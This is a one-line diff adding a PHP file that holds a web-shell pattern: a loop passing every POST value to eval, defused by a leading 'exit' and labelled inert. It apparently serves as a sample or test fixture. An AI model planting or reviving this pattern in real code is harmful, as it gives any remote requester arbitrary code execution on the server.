@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $_=$_POST; foreach($_ as $k=>$v) { @eval($v); }
